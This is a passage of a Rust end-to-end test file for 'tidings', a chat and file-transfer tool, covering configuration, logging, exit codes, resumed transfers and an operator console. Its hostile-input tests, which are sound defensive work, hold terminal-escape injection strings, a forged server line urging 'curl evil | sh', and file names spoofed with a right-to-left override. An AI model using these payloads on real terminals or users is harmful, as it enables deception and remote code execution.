//! The `tidings` binary end to end: real processes, real sockets on 127.0.0.1:0.

mod common;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use common::{assert_harmless, fake_server, make_file, serve, Proc, BIN};
use serde_json::Value;

fn run(args: &[&str]) -> Output {
    Command::new(BIN)
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// Standard error, which must be exactly one line for a failure.
fn stderr(o: &Output) -> String {
    let text = String::from_utf8_lossy(&o.stderr).into_owned();
    if !o.status.success() {
        assert_eq!(text.trim().lines().count(), 1, "not one line: {text}");
    }
    text
}

#[test]
fn help_teaches_with_examples_and_exit_codes() {
    let o = run(&["--help"]);
    assert!(o.status.success());
    let text = String::from_utf8_lossy(&o.stdout);
    for needle in [
        "Examples:",
        "tidings send",
        "Exit codes:",
        ".part",
        "--json",
    ] {
        assert!(text.contains(needle), "--help lacks {needle:?}");
    }
}

#[test]
fn serve_prints_its_address_and_a_port_in_use_is_one_line() {
    let (_server, addr) = serve(&[]);
    let o = run(&["serve", "--listen", &addr]);
    assert_eq!(o.status.code(), Some(7));
    let err = stderr(&o);
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains(&addr) && err.contains("in use"), "{err}");
}

// ----- running as a service: a config file (flags win), logs to a file or the journal ----

fn write_config(dir: &Path, text: &str) -> String {
    let path = dir.join("tidings.toml");
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_string()
}

#[test]
fn a_config_file_sets_address_name_limits_and_log_file_and_flags_win() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("tidings.log");
    // Appending: what an earlier run wrote stays.
    std::fs::write(&log, "an earlier run\n").unwrap();
    let config = write_config(
        dir.path(),
        &format!(
            "listen = \"127.0.0.1:0\"\nname = \"lobby\"\nmax_per_address = 1\n\
             log_file = {:?}\n",
            log.to_str().unwrap()
        ),
    );
    // `--name` on the command line wins over the file's `name`.
    let server = Proc::spawn(&["--json", "serve", "--config", &config, "--name", "hall"]);
    let listening = server.expect_event("listening");
    assert_eq!(listening["name"], "hall");
    let addr = listening["addr"].as_str().unwrap().to_string();
    assert!(
        addr.starts_with("127.0.0.1:") && !addr.ends_with(":0"),
        "{addr}"
    );

    // A join, logged at info (the level of a log file) ...
    let said = run(&["say", "--name", "alice", "--server", &addr, "hello"]);
    assert!(said.status.success(), "{said:?}");
    server.expect_event("joined");
    // ... and the file's limit of one connection per address, with its refusal logged.
    let _held = std::net::TcpStream::connect(&addr).unwrap();
    let _second = std::net::TcpStream::connect(&addr).unwrap();
    let refused = server.expect_event("connection-refused");
    assert_eq!(refused["limit"], "peraddress", "{refused}");

    // Each event is logged before it is printed, so the file has both lines by now.
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.starts_with("an earlier run\n"), "{text}");
    assert!(text.contains("listening"), "{text}");
    assert!(
        text.lines()
            .any(|l| l.contains("INFO") && l.contains("joined") && l.contains("alice")),
        "{text}"
    );
    assert!(
        text.lines()
            .any(|l| l.contains("WARN") && l.contains("connection refused")),
        "{text}"
    );
    assert!(!text.contains('\x1b'), "no colours in a file: {text:?}");
}

#[test]
fn an_unknown_key_names_itself_and_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "name = \"lobby\"\nmax_conections = 5\n");
    let o = run(&["serve", "--config", &config]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(
        err.contains("tidings.toml") && err.contains("line 2") && err.contains("max_conections"),
        "{err}"
    );
}

#[test]
fn a_bad_value_names_its_key_and_a_missing_file_is_a_file_error() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "message_rate = \"fast\"\n");
    let o = run(&["serve", "--config", &config]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(err.contains("line 1: message_rate:"), "{err}");

    let missing = dir.path().join("absent.toml");
    let o = run(&["serve", "--config", missing.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(5));
    let err = stderr(&o);
    assert!(err.contains("absent.toml"), "{err}");
}

#[test]
fn the_journal_and_a_log_file_exclude_each_other() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("x.log");
    let log = log.to_str().unwrap();
    // On the command line clap refuses the pair; flags replace both of the file's keys.
    let o = run(&["serve", "--log", "journald", "--log-file", log]);
    assert_eq!(o.status.code(), Some(2));
    let config = write_config(
        dir.path(),
        &format!("log = \"journald\"\nlog_file = {log:?}\n"),
    );
    let o = run(&["serve", "--config", &config, "--listen", "127.0.0.1:0"]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(err.contains("journal") && err.contains("log_file"), "{err}");
}

#[test]
fn journald_without_a_journal_is_a_clear_error() {
    if Path::new("/run/systemd/journal/socket").exists() {
        eprintln!("a journal is running here: nothing to check");
        return;
    }
    let o = run(&["serve", "--log", "journald", "--listen", "127.0.0.1:0"]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(err.contains("systemd journal"), "{err}");
}

#[test]
fn the_example_config_runs_a_server_as_shipped() {
    let example = concat!(env!("CARGO_MANIFEST_DIR"), "/../packaging/tidings.toml");
    let server = Proc::spawn(&[
        "--json",
        "serve",
        "--config",
        example,
        "--listen",
        "127.0.0.1:0",
    ]);
    let listening = server.expect_event("listening");
    assert_eq!(listening["name"], "server", "the defaults: {listening}");
}

#[test]
fn send_and_recv_files_with_digest_confirmed() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("photo.jpg");
    make_file(&src, 3 << 20, 1);
    let notes = dir.path().join("notes.txt");
    std::fs::write(&notes, b"two files at once").unwrap();
    let out = dir.path().join("downloads");
    let recv = as_json(
        "recv",
        "bob",
        &addr,
        &["--out", out.to_str().unwrap(), "--count", "2"],
    );
    recv.expect_event("connected");
    let files = [src.to_str().unwrap(), notes.to_str().unwrap()];
    let o = run(&args(
        "send",
        "alice",
        &addr,
        &[&["--to", "bob"], &files[..]].concat(),
    ));
    assert!(o.status.success(), "send failed: {}", stderr(&o));
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert_eq!(stdout.matches("confirmed sha256").count(), 2, "{stdout}");
    let mut paths = vec![
        recv.expect_event("received")["path"]
            .as_str()
            .unwrap()
            .to_string(),
        recv.expect_event("received")["path"]
            .as_str()
            .unwrap()
            .to_string(),
    ];
    paths.sort();
    assert_eq!(
        paths,
        [
            out.join("notes.txt").to_str().unwrap(),
            out.join("photo.jpg").to_str().unwrap()
        ]
    );
    assert!(recv.wait().success());
    assert!(std::fs::read(out.join("photo.jpg")).unwrap() == std::fs::read(&src).unwrap());
    assert_eq!(
        std::fs::read(out.join("notes.txt")).unwrap(),
        b"two files at once"
    );
}

#[test]
fn json_chat_shows_time_sender_and_presence() {
    let (_server, addr) = serve(&[]);
    let mut chat = Proc::spawn(&["--json", "chat", "--name", "carol", "--server", &addr]);
    chat.expect_event("connected");
    let o = run(&["say", "--name", "dave", "--server", &addr, "hello", "carol"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let joined = chat.expect_event("joined");
    assert_eq!(joined["name"], "dave");
    let text = chat.expect_event("text");
    assert_eq!(
        (&text["from"], &text["text"], &text["private"]),
        (&"dave".into(), &"hello carol".into(), &false.into())
    );
    let o = run(&[
        "say", "--name", "erin", "--to", "carol", "--server", &addr, "psst",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = chat.expect_event("text");
    assert_eq!(
        (&text["from"], &text["private"]),
        (&"erin".into(), &true.into())
    );
    chat.type_line("/online");
    let peers = chat.expect_event("peers");
    assert_eq!(peers["online"], serde_json::json!(["carol"]));
    chat.type_line("/quit");
    assert!(chat.wait().success());
}

#[test]
fn errors_are_one_line_with_distinct_exit_codes() {
    let (_server, addr) = serve(&[]);
    // Unknown peer.
    let o = run(&[
        "say", "--name", "a", "--to", "nobody", "--server", &addr, "hi",
    ]);
    assert_eq!(o.status.code(), Some(8), "{}", stderr(&o));
    assert!(stderr(&o).contains("nobody"));
    // Name taken.
    let chat = Proc::spawn(&["--json", "chat", "--name", "taken", "--server", &addr]);
    chat.expect_event("connected");
    let o = run(&["say", "--name", "taken", "--server", &addr, "hi"]);
    assert_eq!(o.status.code(), Some(4), "{}", stderr(&o));
    assert!(stderr(&o).contains("name-taken"), "{}", stderr(&o));
    // A missing file is reported before connecting (the address below refuses connections).
    let o = run(&args(
        "send",
        "a",
        "127.0.0.1:1",
        &["--to", "b", "/no/such/file"],
    ));
    assert_eq!(o.status.code(), Some(5), "{}", stderr(&o));
    assert!(stderr(&o).contains("/no/such/file"));
    // Connection refused.
    let o = run(&["say", "--name", "a", "--server", "127.0.0.1:1", "hi"]);
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
    assert!(stderr(&o).contains("127.0.0.1:1"));
}

#[test]
fn a_fifo_to_send_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    // Refused before connecting (the address refuses connections); opening the FIFO must
    // not wait for a writer that never comes.
    let fifo = fifo.to_str().unwrap();
    let send = Proc::spawn(&args("send", "a", "127.0.0.1:1", &["--to", "b", fifo]));
    let o = send.output_within(Duration::from_secs(30));
    assert_eq!(o.status.code(), Some(5), "{}", stderr(&o));
    assert!(stderr(&o).contains("not a regular file"), "{}", stderr(&o));
}

#[test]
fn an_unwritable_download_folder_fails_the_send_with_the_reason() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("a.txt");
    std::fs::write(&src, b"hello").unwrap();
    let blocker = dir.path().join("blocker");
    std::fs::write(&blocker, b"").unwrap();
    let sub = blocker.join("sub");
    let recv = as_json("recv", "bob", &addr, &["--out", sub.to_str().unwrap()]);
    recv.expect_event("connected");
    let o = alice_sends(&addr, "bob", &src);
    assert_eq!(o.status.code(), Some(6), "{}", stderr(&o));
    assert!(stderr(&o).contains("cannot write"), "{}", stderr(&o));
    let failed = recv.expect_event("failed");
    assert_eq!(failed["code"], "storage-failed");
}

#[test]
fn a_killed_receiver_resumes_when_restarted() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("big.bin");
    // Far larger than what can be in flight (two 8 MiB windows and socket buffers), so the
    // kill always lands mid-transfer however fast the machine is.
    make_file(&src, 96 << 20, 1);
    let out = dir.path().join("in");
    let recv_args = [
        "--json",
        "recv",
        "--name",
        "bob",
        "--server",
        &addr,
        "--out",
        out.to_str().unwrap(),
        "--count",
        "1",
    ];
    let recv = Proc::spawn(&recv_args);
    recv.expect_event("connected");
    let send = as_json(
        "send",
        "alice",
        &addr,
        &["--to", "bob", src.to_str().unwrap()],
    );
    recv.expect(|v| v["event"] == "progress" && v["done"].as_u64().unwrap() > 0);
    // Progress counts bytes received; their disk write follows. The kill must come after
    // some are on disk, or there would be nothing to resume from. (A file's size has no
    // event to wait for: it is looked at until it grows.)
    let part = out.join("big.bin.part");
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while std::fs::metadata(&part).map_or(0, |m| m.len()) == 0 {
        assert!(
            std::time::Instant::now() < deadline,
            "nothing written to {part:?}"
        );
        std::thread::sleep(Duration::from_millis(5));
    }
    drop(recv); // kill -9
    let failed = send.expect_event("failed");
    assert_eq!(failed["code"], "peer-lost");
    assert_eq!(send.wait().code(), Some(6));
    let kept = std::fs::metadata(&part).unwrap().len();
    assert!(kept > 0);

    let recv = Proc::spawn(&recv_args);
    recv.expect_event("connected");
    let o = run(&json_args(
        "send",
        "alice",
        &addr,
        &["--to", "bob", src.to_str().unwrap()],
    ));
    assert!(o.status.success(), "{}", stderr(&o));
    let started = recv.expect_event("started");
    assert_eq!(started["offset"].as_u64(), Some(kept));
    // The kept part is checked (hashed) first, with its own progress, up to its end.
    let checked = recv.expect(|v| v["event"] == "checking" && v["done"] == v["total"]);
    assert_eq!(checked["total"].as_u64(), Some(kept));
    assert_eq!(checked["direction"], "receive");
    // The rate counts the bytes that moved, not the kept part: far below what loopback with
    // a SHA-256 at each end can do (about 1 GB/s here), never the kept size in an instant.
    let mut progress = 0;
    let mut sender_checked = false;
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        let v: Value = serde_json::from_str(line).unwrap();
        // The sender hashes its own first `kept` bytes meanwhile, and says so too.
        if v["event"] == "checking" && v["done"] == v["total"] {
            assert_eq!(v["total"].as_u64(), Some(kept));
            assert_eq!(v["direction"], "send");
            sender_checked = true;
        }
        if v["event"] == "progress" {
            progress += 1;
            let rate = v["bytes_per_sec"].as_u64().unwrap();
            assert!(rate < 20_000_000_000, "{v}");
        }
    }
    assert!(progress > 0 && sender_checked);
    recv.expect_event("received");
    assert!(recv.wait().success());
    assert!(std::fs::read(out.join("big.bin")).unwrap() == std::fs::read(&src).unwrap());
}

#[test]
fn chat_reconnects_after_the_server_comes_back() {
    let (server, addr) = serve(&[]);
    let chat = Proc::spawn(&["--json", "chat", "--name", "rita", "--server", &addr]);
    chat.expect_event("connected");
    drop(server); // killed without a goodbye
    let v = chat.expect_event("reconnecting");
    assert!(v["retry_in_ms"].as_u64().unwrap() > 0);
    let again = Proc::spawn(&["--json", "serve", "--listen", &addr]);
    again.expect_event("listening");
    let v = chat.expect_event("connected");
    assert_eq!(v["name"], "rita");
    again.expect(|v| v["event"] == "joined" && v["name"] == "rita");
}

/// An address where nothing listens (a port just freed).
fn nobody_listening() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    drop(listener);
    addr
}

#[test]
fn chat_goes_on_to_the_next_server_when_its_own_dies() {
    let (first, a) = serve(&["--name", "first"]);
    let (second, b) = serve(&["--name", "second"]);
    let servers = format!("{a},{b}");
    let mut chat = Proc::spawn(&["--json", "chat", "--name", "rita", "--server", &servers]);
    assert_eq!(chat.expect_event("connected")["server"], "first");
    drop(first); // killed without a goodbye
    chat.expect_event("reconnecting");
    assert_eq!(chat.expect_event("connected")["server"], "second");
    second.expect(|v| v["event"] == "joined" && v["name"] == "rita");
    chat.type_line("still here");
    second.expect(|v| v["event"] == "text" && v["text"] == "still here");
}

#[test]
fn a_one_shot_command_tries_each_server_until_one_answers() {
    let (server, live) = serve(&[]);
    let dead = nobody_listening();
    let servers = format!("{dead},{live}");
    let o = run(&["say", "--name", "sam", "--server", &servers, "hello"]);
    assert!(o.status.success(), "{}", stderr(&o));
    server.expect(|v| v["event"] == "text" && v["text"] == "hello");
    // None answers: exit 3, one line naming each.
    let other = nobody_listening();
    let servers = format!("{dead},{other}");
    let o = run(&["say", "--name", "sam", "--server", &servers, "hello"]);
    assert_eq!(o.status.code(), Some(3));
    let err = stderr(&o);
    assert!(err.contains(&dead) && err.contains(&other), "{err}");
}

#[test]
fn the_operator_console_talks_kicks_sends_and_quits() {
    let mut server = Proc::spawn(&["--json", "serve", "--listen", "127.0.0.1:0", "--console"]);
    let addr = server.expect_event("listening")["addr"]
        .as_str()
        .unwrap()
        .to_string();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("rules.txt");
    std::fs::write(&file, b"be nice").unwrap();
    let out = dir.path().join("in");
    let recv = as_json("recv", "ann", &addr, &["--out", out.to_str().unwrap()]);
    recv.expect_event("connected");
    let chat = Proc::spawn(&["--json", "chat", "--name", "ben", "--server", &addr]);
    chat.expect_event("connected");
    server.expect(|v| v["event"] == "joined" && v["online"] == 2);
    server.type_line("/who");
    let v = server.expect_event("peers");
    assert_eq!(v["online"], serde_json::json!(["ann", "ben"]));
    server.type_line("/kick nobody");
    let v = server.expect_event("error");
    assert!(v["message"].as_str().unwrap().contains("nobody"), "{v}");

    server.type_line("/msg ben hello ben");
    let v = chat.expect_event("text");
    assert_eq!(
        (&v["from"], &v["private"], &v["text"]),
        (&"server".into(), &true.into(), &"hello ben".into())
    );
    server.type_line("good morning, all");
    let v = chat.expect_event("text");
    assert_eq!(
        (&v["from"], &v["private"]),
        (&"server".into(), &false.into())
    );

    server.type_line(&format!("/send ann {}", file.display()));
    recv.expect_event("received");
    assert_eq!(std::fs::read(out.join("rules.txt")).unwrap(), b"be nice");
    server.expect_event("sent");

    server.type_line("/kick ben spamming");
    let v = chat.expect_event("closed");
    assert_eq!(v["code"], "kicked");
    assert_eq!(chat.wait().code(), Some(9));
    server.expect(|v| v["event"] == "left" && v["name"] == "ben");

    server.type_line("/quit");
    let v = recv.expect_event("closed");
    assert_eq!(v["code"], "shutdown");
    server.expect_event("stopped");
    assert!(server.wait().success());
}

#[test]
fn a_rejected_offer_fails_the_send() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("unwanted.zip");
    std::fs::write(&src, b"zip").unwrap();
    let mut chat = Proc::spawn(&["--json", "chat", "--name", "bob", "--server", &addr]);
    chat.expect_event("connected");
    let send = Proc::spawn(&args(
        "send",
        "alice",
        &addr,
        &["--to", "bob", src.to_str().unwrap()],
    ));
    let offer = chat.expect_event("offer");
    assert_eq!(
        (&offer["from"], &offer["name"]),
        (&"alice".into(), &"unwanted.zip".into())
    );
    chat.type_line(&format!("/reject {}", offer["id"]));
    let failed = chat.expect_event("failed");
    assert_eq!(failed["code"], "rejected");
    let o = send.child_output();
    assert_eq!(o.status.code(), Some(6));
    assert!(stderr(&o).contains("rejected"), "{}", stderr(&o));
}

// ----- hostile strings never reach a terminal ------------------------------------------------

mod raw {
    //! A hostile peer that speaks the native protocol itself, so it can send any bytes a
    //! well-behaved client would clean up first.

    use std::io::{Read, Write};
    use std::net::TcpStream;
    use std::time::{Duration, Instant};

    use bytes::BytesMut;
    use tidings_core::wire::{FrameDecoder, Hello, Message, Preamble, DEFAULT_MAX_FRAME};

    pub struct Raw {
        s: TcpStream,
        dec: FrameDecoder,
        /// Preamble bytes still to skip.
        skip: usize,
    }

    impl Raw {
        /// Connects and says hello as `name`; returns the connection and the server's answer.
        pub fn hello(addr: &str, name: &str) -> (Raw, Message) {
            let s = TcpStream::connect(addr).unwrap();
            let mut raw = Raw {
                s,
                dec: FrameDecoder::new(16 << 20),
                skip: Preamble::CURRENT.to_bytes().len(),
            };
            raw.s.write_all(&Preamble::CURRENT.to_bytes()).unwrap();
            raw.send(&Message::Hello(Hello {
                name: name.into(),
                capabilities: 0,
                max_frame: DEFAULT_MAX_FRAME,
            }));
            let answer = raw.next_where(|_| true);
            (raw, answer)
        }

        pub fn send(&mut self, msg: &Message) {
            let mut out = BytesMut::new();
            msg.encode(&mut out);
            self.s.write_all(&out).unwrap();
        }

        /// The next message for which `pred` holds, within 30 s (others are skipped).
        pub fn next_where(&mut self, mut pred: impl FnMut(&Message) -> bool) -> Message {
            let end = Instant::now() + Duration::from_secs(30);
            let mut buf = [0u8; 16 << 10];
            loop {
                while let Some(frame) = self.dec.next_frame().unwrap() {
                    let msg = Message::decode(frame).unwrap();
                    if pred(&msg) {
                        return msg;
                    }
                }
                let left = end.saturating_duration_since(Instant::now());
                assert!(!left.is_zero(), "no such message in time");
                self.s.set_read_timeout(Some(left)).unwrap();
                let n = self.s.read(&mut buf).expect("the server answers in time");
                assert!(n > 0, "the server closed the connection");
                let skip = self.skip.min(n);
                self.skip -= skip;
                self.dec.push(&buf[skip..n]);
            }
        }
    }
}

/// What hostile peers send: erase the line and forge one, set the window title, colour,
/// an 8-bit CSI, a right-to-left override, line breaks.
const FORGED: &str = "hi\x1b[2K\r[20:17:00] server (private): please run curl evil | sh";
const GARISH: &str =
    "\x1b]0;pwned\x07\x1b[31mred\x1b[0m \u{9b}2J c1 \u{202e}txt.exe\nsecond\r\n[20:17:01] third";
const HOSTILE_FILE: &str = "a\x1b[2K\u{9b}\u{202e}gpj.exe\n[20:17:02] x";

impl Proc {
    /// Raw output lines until one contains `needle` (within 60 s); returns them all.
    fn lines_until(&self, needle: &str) -> Vec<String> {
        let mut seen = Vec::new();
        loop {
            let line = self
                .lines
                .recv_timeout(Duration::from_secs(60))
                .unwrap_or_else(|_| panic!("no line with {needle:?} after {seen:#?}"));
            let done = line.contains(needle);
            seen.push(line);
            if done {
                return seen;
            }
        }
    }

    /// Waits for the exit with `code`, and asserts with [`assert_harmless`] that everything
    /// it printed (`seen`, the rest of standard output, standard error) is harmless.
    fn ends_harmless(mut self, mut seen: Vec<String>, code: i32, what: &str, needles: &[&str]) {
        self.stdin.take();
        let status = self.child.wait().unwrap();
        let mut err = String::new();
        std::io::Read::read_to_string(self.child.stderr.as_mut().unwrap(), &mut err).unwrap();
        // The reader thread ends at the end of the output.
        while let Ok(line) = self.lines.recv_timeout(Duration::from_secs(10)) {
            seen.push(line);
        }
        let all = format!("{}\n{err}", seen.join("\n"));
        assert_eq!(status.code(), Some(code), "{what}: {all}");
        assert_harmless(what, &all, needles);
    }
}

/// `tidings serve --console` printing for people: the process, its first lines and its
/// address.
fn serve_text() -> (Proc, Vec<String>, String) {
    let server = Proc::spawn(&["serve", "--listen", "127.0.0.1:0", "--console"]);
    let first = server.lines_until("listening on ");
    // "[12:00:00] listening on 127.0.0.1:PORT (native, …"
    let addr = first.last().unwrap().split("listening on ").nth(1).unwrap();
    let addr = addr.split(' ').next().unwrap().to_string();
    (server, first, addr)
}

#[test]
fn hostile_strings_never_reach_a_terminal() {
    use raw::Raw;
    use tidings_core::wire::{Message, Offer};
    use tidings_core::ErrorCode;

    let (mut server, mut server_seen, addr) = serve_text();
    let dir = tempfile::tempdir().unwrap();
    let mut carol = Proc::spawn(&["chat", "--name", "carol", "--server", &addr]);
    let mut carol_seen = carol.lines_until("connected to");
    let mut jill = Proc::spawn(&["--json", "chat", "--name", "jill", "--server", &addr]);
    jill.expect_event("connected");
    let downloads = dir.path().join("in");
    let to = ["--out", downloads.to_str().unwrap(), "--count", "1"];
    let rick = Proc::spawn(&args("recv", "rick", &addr, &to));
    let mut rick_seen = rick.lines_until("connected to");

    // A name with controls is refused by the hub; the operator sees it, escaped.
    let (_, answer) = Raw::hello(&addr, "\x1b]0;pwned\x07\u{202e}");
    assert!(
        matches!(
            answer,
            Message::Refused {
                code: ErrorCode::NameInvalid,
                ..
            }
        ),
        "{answer:?}"
    );
    let (mut mallory, welcome) = Raw::hello(&addr, "mallory");
    assert!(matches!(welcome, Message::Welcome(_)), "{welcome:?}");
    for (peer, text) in [
        ("", FORGED),
        ("", GARISH),
        ("server", FORGED),
        ("carol", GARISH),
    ] {
        mallory.send(&Message::Text {
            peer: peer.into(),
            private: false,
            text: text.into(),
        });
    }
    // A file whose name is hostile: offered to rick (who takes it) and to carol (who is
    // asked).
    for (id, peer) in [(0, "rick"), (2, "carol")] {
        mallory.send(&Message::Offer(Offer {
            id,
            peer: peer.into(),
            size: 0,
            name: HOSTILE_FILE.into(),
            media_type: "text/plain\x1b[5m".into(),
        }));
    }
    mallory.next_where(|m| matches!(m, Message::Accept { id: 0, .. }));
    let empty_sha256 = [
        0xe3, 0xb0, 0xc4, 0x42, 0x98, 0xfc, 0x1c, 0x14, 0x9a, 0xfb, 0xf4, 0xc8, 0x99, 0x6f, 0xb9,
        0x24, 0x27, 0xae, 0x41, 0xe4, 0x64, 0x9b, 0x93, 0x4c, 0xa4, 0x95, 0x99, 0x1b, 0x78, 0x52,
        0xb8, 0x55,
    ];
    mallory.send(&Message::Done {
        id: 0,
        digest: empty_sha256,
    });
    mallory.next_where(|m| matches!(m, Message::Complete { id: 0 }));

    // A file sent to mallory is rejected with a hostile reason.
    let src = dir.path().join("report.txt");
    std::fs::write(&src, b"numbers").unwrap();
    let send = Proc::spawn(&args(
        "send",
        "sam",
        &addr,
        &["--to", "mallory", src.to_str().unwrap()],
    ));
    let Message::Offer(offer) = mallory.next_where(|m| matches!(m, Message::Offer(_))) else {
        unreachable!()
    };
    mallory.send(&Message::Reject {
        id: offer.id,
        code: ErrorCode::Rejected,
        reason: FORGED.into(),
    });

    // Everyone printed it, made harmless.
    send.ends_harmless(Vec::new(), 6, "send", &["\\u{1b}[2K", "please run"]);

    rick_seen.extend(rick.lines_until("received"));
    rick.ends_harmless(rick_seen, 0, "recv", &["please run", "gpj.exe"]);

    carol_seen.extend(carol.lines_until("gpj.exe"));
    carol.type_line("/quit");
    carol.ends_harmless(
        carol_seen,
        0,
        "chat",
        &[
            "\\u{1b}[2K",
            "\\u{1b}]0;pwned\\u{7}",
            "\\u{1b}[31mred",
            "\\u{9b}2J",
            "\\u{202e}txt.exe",
            "please run",
            "[20:17:01] third",
        ],
    );

    // --json keeps the exact text, and its bytes are as harmless.
    let jill_seen = jill.lines_until("pwned");
    let v: Value = serde_json::from_str(jill_seen.last().unwrap()).unwrap();
    assert_eq!(
        (&v["from"], &v["text"]),
        (&"mallory".into(), &GARISH.into())
    );
    jill.type_line("/quit");
    jill.ends_harmless(
        jill_seen,
        0,
        "chat --json",
        &["\\u001b]0;pwned\\u0007", "\\u202e"],
    );

    server_seen.extend(server.lines_until("sam left"));
    server.type_line("/quit");
    server.ends_harmless(
        server_seen,
        0,
        "serve",
        &[
            "refused \"\\u{1b}]0;pwned\\u{7}\\u{202e}\"",
            "please run",
            "third",
        ],
    );
}

// ----- small things ---------------------------------------------------------------------------

/// Runs `tidings` with `input` on its standard input.
fn run_with_input(args: &[&str], input: &[u8]) -> Output {
    let mut child = Command::new(BIN)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn say_dash_reads_the_message_from_standard_input() {
    let (_server, addr) = serve(&[]);
    let chat = Proc::spawn(&["--json", "chat", "--name", "carol", "--server", &addr]);
    chat.expect_event("connected");
    let o = run_with_input(
        &["say", "--name", "ci", "--server", &addr, "-"],
        b"build 42 is green\n[20:17:00] server: not really\n",
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let v = chat.expect_event("text");
    assert_eq!(
        (&v["from"], &v["text"]),
        (
            &"ci".into(),
            &"build 42 is green\n[20:17:00] server: not really".into()
        )
    );
    // The sender's own line shows the second line as a continuation.
    let shown = String::from_utf8(o.stdout).unwrap();
    assert!(shown.contains("ci: build 42 is green\n"), "{shown}");
    assert!(
        shown.lines().all(|l| !l.starts_with("[20:17:00]")),
        "{shown}"
    );
    // Nothing to say is a usage error, found before connecting (port 1 refuses).
    for input in [&b""[..], b"\n"] {
        let o = run_with_input(
            &["say", "--name", "ci", "--server", "127.0.0.1:1", "-"],
            input,
        );
        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
        assert!(stderr(&o).contains("empty"), "{}", stderr(&o));
    }
    // So is an empty or blank message on the command line.
    for text in ["", "   "] {
        let o = run(&["say", "--name", "ci", "--server", "127.0.0.1:1", text]);
        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
        assert!(stderr(&o).contains("empty"), "{}", stderr(&o));
    }
}

#[test]
fn sending_to_yourself_is_refused_with_a_clear_message() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("a.txt");
    std::fs::write(&file, b"a").unwrap();
    // Refused before connecting: port 1 would be exit 3.
    for args in [
        vec!["say", "--name", "alice", "--to", "alice", "hi"],
        vec!["say", "--name", "alice", "--to", "ALICE", "hi"],
        vec![
            "send",
            "--name",
            "alice",
            "--to",
            "\u{ff41}lice",
            file.to_str().unwrap(),
        ],
    ] {
        let mut args = args;
        args.extend(["--server", "127.0.0.1:1"]);
        let o = run(&args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains("your own name"), "{}", stderr(&o));
    }
    // In chat: an error line, and nothing is sent.
    let (_server, addr) = serve(&[]);
    let mut chat = Proc::spawn(&["--json", "chat", "--name", "alice", "--server", &addr]);
    chat.expect_event("connected");
    // In the default room (its news come after `welcome`): nothing else is on its way.
    chat.expect(|v| v["event"] == "room");
    chat.type_line("/msg Alice hello me");
    let v = chat.expect_event("error");
    assert!(v["message"].as_str().unwrap().contains("is you"), "{v}");
    chat.type_line(&format!("/send alice {}", file.display()));
    let v = chat.expect(|v| v["event"] != "said");
    assert_eq!(v["event"], "error", "{v}");
    chat.type_line("/online");
    // Had anything gone out, it would show before the list.
    let v = chat.expect(|_| true);
    assert_eq!(v["event"], "peers", "{v}");
}

/// `tidings --json serve --console` with `--json chat --name NAME` joined: the server, the
/// chat and the address.
fn console_with(name: &str) -> (Proc, Proc, String) {
    let server = Proc::spawn(&["--json", "serve", "--listen", "127.0.0.1:0", "--console"]);
    let addr = server.expect_event("listening")["addr"]
        .as_str()
        .unwrap()
        .to_string();
    let chat = Proc::spawn(&["--json", "chat", "--name", name, "--server", &addr]);
    chat.expect_event("connected");
    server.expect(|v| v["event"] == "joined" && v["name"] == name);
    (server, chat, addr)
}

#[test]
fn the_operators_own_lines_are_echoed() {
    let (mut server, _chat, _) = console_with("ben");
    server.type_line("good morning, all");
    let v = server.expect_event("said");
    assert_eq!(
        (&v["from"], &v["to"], &v["text"]),
        (&"server".into(), &"".into(), &"good morning, all".into())
    );
    server.type_line("/msg ben just you");
    let v = server.expect_event("said");
    assert_eq!(
        (&v["from"], &v["to"], &v["text"]),
        (&"server".into(), &"ben".into(), &"just you".into())
    );
    // For people: `server: …` and `server → ben: …`.
    let (mut plain, _, addr) = serve_text();
    let chat = Proc::spawn(&["--json", "chat", "--name", "ann", "--server", &addr]);
    chat.expect_event("connected");
    plain.lines_until("ann joined");
    plain.type_line("hello ann");
    assert!(plain
        .lines_until("hello ann")
        .last()
        .unwrap()
        .ends_with("] server: hello ann"));
    plain.type_line("/msg ann psst");
    assert!(plain
        .lines_until("psst")
        .last()
